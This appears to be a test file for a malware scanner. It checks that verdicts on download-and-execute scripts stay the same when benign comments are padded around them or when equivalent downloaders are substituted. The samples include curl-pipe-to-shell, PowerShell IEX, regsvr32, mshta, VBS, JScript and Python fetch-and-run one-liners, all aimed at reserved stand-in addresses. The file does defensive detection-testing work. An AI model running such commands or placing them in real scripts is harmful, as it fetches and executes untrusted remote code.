// Pairs that an author of malware makes in a minute: the same sample with what speaks for nobody, or with another program of
// the table in its place. The label stays.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { analyzeFile } from '../../src/index.ts'

const now = new Date('2026-01-01T00:00:00Z')
const labelOf = async (name: string, text: string): Promise<string> =>
  (await analyzeFile(Buffer.from(text), { fileName: name, now })).verdict.label

/** What a comment begins with, the name and the sample. Addresses are reserved ones. */
const SAMPLES: readonly (readonly [comment: string, name: string, text: string])[] = [
  ['# ', 'a.sh', '#!/bin/sh\nwget -q -O /tmp/.x http://203.0.113.9/x; chmod +x /tmp/.x; /tmp/.x\n'],
  ['# ', 'b.sh', '#!/bin/sh\ncurl -s http://203.0.113.9/x | bash\n'],
  ['# ', 'i.sh', '#!/bin/sh\ncurl -s http://update.example.org/x | sh\n'],
  ['# ', 'c.ps1', "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/x')\n"],
  [
    'REM ',
    'd.bat',
    'powershell -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/x\')"\r\n',
  ],
  ['REM ', 'e.bat', 'regsvr32 /s /n /u /i:http://203.0.113.9/x.sct scrobj.dll\r\n'],
  [
    "' ",
    'f.vbs',
    'Set h = CreateObject("MSXML2.XMLHTTP")\r\nh.Open "GET", "http://203.0.113.9/x", False\r\nh.Send\r\nExecute h.responseText\r\n',
  ],
  [
    '// ',
    'g.js',
    'var h = new ActiveXObject("MSXML2.XMLHTTP"); h.open("GET", "http://203.0.113.9/x", false); h.send(); eval(h.responseText);\n',
  ],
  ['# ', 'h.py', 'import urllib.request\nexec(urllib.request.urlopen("http://203.0.113.9/x").read())\n'],
]

const PADDING: Readonly<Record<string, string>> = {
  'a company': 'Copyright (c) Microsoft Corporation. All rights reserved. Contoso IT operations',
  'a known host': 'see https://get.docker.com and https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh',
  'a licence': 'Permission is hereby granted, free of charge, to any person obtaining a copy of this software',
  'a test': 'This is a harmless test, used by administrators of the service desk for training',
}

for (const [comment, name, text] of SAMPLES) {
  test(`${name} is judged alike whatever its comments say`, async () => {
    const alone = await labelOf(name, text)
    assert.ok(alone === 'malicious' || alone === 'suspicious', alone)
    for (const [what, line] of Object.entries(PADDING)) {
      const many = `${comment}${line}\n`.repeat(40)
      assert.equal(await labelOf(name, `${text}${many}`), alone, `${what} behind`)
      const [first = '', ...rest] = text.startsWith('#!') ? text.split('\n') : ['', text]
      assert.equal(await labelOf(name, `${first}\n${many}${rest.join('\n')}`), alone, `${what} in front`)
    }
  })
}

/** Programs that do the same in the same place. */
const ALIKE: Readonly<
  Record<string, { readonly write: (program: string) => string; readonly programs: readonly string[] }>
> = {
  'pipe.sh': {
    write: (program) => `#!/bin/sh\ncurl -s http://203.0.113.9/x | ${program}\n`,
    programs: ['bash', 'sh', 'dash', 'ksh', 'zsh', '/bin/sh', 'sudo bash', '/usr/bin/env bash', 'busybox sh', 'ash'],
  },
  'fetch.sh': {
    write: (program) => `#!/bin/sh\n${program} http://203.0.113.9/x | sh\n`,
    programs: ['curl -s', 'wget -qO-', 'fetch -qo -', 'lwp-request', 'busybox wget -O-', 'curl -fsSL'],
  },
  'hidden.bat': {
    write: (program) => `@echo off\r\n${program} -w hidden -c "iex(irm http://203.0.113.9/x)"\r\n`,
    programs: ['powershell', 'powershell.exe', 'pwsh', 'pwsh.exe'],
  },
  'page.bat': {
    write: (program) => `@echo off\r\n${program} http://203.0.113.9/x.hta\r\n`,
    programs: ['mshta', 'mshta.exe', 'start mshta', 'C:\\Windows\\System32\\mshta.exe', 'start "" /b mshta.exe'],
  },
}

for (const [name, { write, programs }] of Object.entries(ALIKE)) {
  test(`${name} is judged alike with every program that does the same`, async () => {
    const [first = '', ...others] = programs
    const label = await labelOf(name, write(first))
    assert.notEqual(label, 'clean')
    for (const program of others) assert.equal(await labelOf(name, write(program)), label, program)
  })
}
